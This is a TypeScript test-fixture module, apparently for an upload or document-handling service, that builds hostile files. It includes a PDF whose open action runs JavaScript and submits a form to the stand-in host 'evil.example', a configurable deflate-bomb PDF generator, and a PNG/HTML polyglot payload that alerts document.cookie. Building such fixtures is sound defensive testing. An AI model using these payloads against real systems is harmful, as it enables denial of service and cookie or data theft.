import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A one-page PDF with real xref offsets, built from the given objects (object 1 must be the catalog). */
export function pdfOf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [];
  let length = 0;
  const push = (piece: string | Buffer) => {
    const buffer = typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece;
    parts.push(buffer);
    length += buffer.length;
  };
  push('%PDF-1.4\n');
  const offsets = objects.map((object, index) => {
    const at = length;
    push(`${index + 1} 0 obj\n`);
    push(object);
    push('\nendobj\n');
    return at;
  });
  const xrefAt = length;
  push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`);
  push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const stream = (content: Buffer, filter = '') =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length}${filter ? ` /Filter ${filter}` : ''} >>\nstream\n`, 'latin1'),
    content,
    Buffer.from('\nendstream', 'latin1'),
  ]);

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A readable PDF whose catalog runs JavaScript when opened: valid, so it is accepted; it must only ever be downloaded. */
export function pdfWithJavaScript(): Buffer {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("https://evil.example"\\);) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    stream(Buffer.from('BT /F1 12 Tf 72 720 Td (Homeowner policy, section 1: water damage) Tj ET')),
    font,
  ]);
}

const MB = 1024 * 1024;

/**
 * A zlib stream of `megabytes` MB of spaces, built without ever holding them: one fully flushed
 * deflate block of 1 MB of spaces repeated, a final empty block, and the checksum worked out.
 */
export function spacesBomb(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MB, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const n = BigInt(megabytes * MB);
  // Adler-32 of n bytes of 0x20, in closed form.
  const a = (1n + 32n * n) % 65521n;
  const b = (n + (32n * n * (n + 1n)) / 2n) % 65521n;
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(Number((b << 16n) | a));
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: megabytes }, () => block), Buffer.from([0x03, 0x00]), checksum]);
}

/** A PDF whose one content stream inflates to `inflatedMb` MB, through one Flate filter or two chained. */
export function deflateBombPdf(inflatedMb = 1000, layers: 1 | 2 = 1): Buffer {
  const content = layers === 1 ? spacesBomb(inflatedMb) : deflateSync(spacesBomb(inflatedMb));
  const filter = layers === 1 ? '/FlateDecode' : '[/FlateDecode /FlateDecode]';
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page, stream(content, filter), font]);
}

/** The smallest valid PNG (1x1), to which HTML may be appended. */
export const PNG_1X1 = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005000201e2217bc60000000049454e44ae426082',
  'hex',
);

export const HTML_PAYLOAD = Buffer.from(
  '<!doctype html><html><body><script>window.__xss = 1; alert(document.cookie)</script></body></html>',
);
